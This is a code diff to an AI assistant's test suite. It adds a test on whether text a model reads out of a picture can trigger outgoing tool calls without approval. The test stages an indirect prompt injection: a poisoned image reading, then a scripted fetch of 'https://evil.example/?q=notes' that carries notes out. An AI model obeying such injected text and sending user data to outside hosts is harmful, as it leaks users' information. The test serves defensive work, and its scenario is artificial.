@@ -6,13 +6,19 @@ from dataclasses import replace
 
 import pytest
 
+from assistant.agent import Agent
+from assistant.keeping import Unkept
+from assistant.messages import MediaRef
 from assistant.models.inference import HUBS
+from assistant.models.scripted import ScriptedModel
 from assistant.models.tasks import find, tasks
 from assistant.pipelines import Pipelines
 from common.errors import ModelLoadFailed, ModelMissing, ToolError
+from tests.assistant.hijacking import POISON, wish
 from tests.assistant.models import tinies
+from tests.assistant.turns import CAPABLE, persona, turn
 from tools import runner
-from tools.base import ToolContext
+from tools.base import Media, Tool, ToolContext
 from tools.builtin.clock import Clock
 from tools.registry import ToolRegistry, default_registry
 
@@ -67,7 +73,7 @@ def make(doubles):
     made = []
 
     def make(**settings):
-        made.append(Pipelines(loader=doubles, **{"room": lambda: GIB, **settings}))
+        made.append(Pipelines(**{"loader": doubles, "room": lambda: GIB, **settings}))
         return made[-1]
 
     yield make
@@ -352,3 +358,34 @@ def test_a_hub_without_its_secret_says_which(make, kind):
     assert output.failed
     assert f"There is no secret {HUBS[kind].secret!r} for {HUBS[kind].url}:443" in output.text
     assert HUBS[kind].secret in tool.about["zh"]
+
+
+@pytest.mark.parametrize(("task", "asked"), [("read-picture", "approval"), ("summarize", "answered")])
+def test_what_a_model_reads_out_of_a_picture_is_a_strangers_text(make, tmp_path, task, asked):
+    """A picture is anybody's: after its words were read, nothing may leave unasked. A text was in the turn before."""
+    (tmp_path / "config.json").write_text("{}")
+    reader = make(loader=lambda _folder, _way: lambda _task, _inputs, _cancel: POISON).tool(
+        task=task, id="reader", name="reader", titles=WORDS, about=WORDS, model=f"path:{tmp_path}"
+    )
+    left = []
+
+    def fetch(url: str) -> str:
+        """Open a page."""
+        left.append(url)
+        return "a page"
+
+    sender = Tool.from_function(fetch)
+    sender.sends = True
+    given = {"read-picture": {"picture": "1"}, "summarize": {"text": "a long text"}}[task]
+    script = [[wish("reader", "r", **given)], [wish("fetch", "f", url="https://evil.example/?q=notes")], "Done."]
+    agent = Agent(persona(), ScriptedModel(script, CAPABLE), ToolRegistry([reader, sender]).snapshot(), lambda query, limit: [])
+    agent = replace(agent, owner="maker", keeper=_Shelf())
+    picture = MediaRef("1", "image/png", "letter.png", 1)
+    happened = turn(agent, "what is in it?", media=(picture,))
+    assert happened[-1].reason == asked
+    assert left == ([] if asked == "approval" else ["https://evil.example/?q=notes"])
+
+
+class _Shelf(Unkept):
+    def fetch(self, id):
+        return Media(tinies.png(), "image/png", "letter.png")
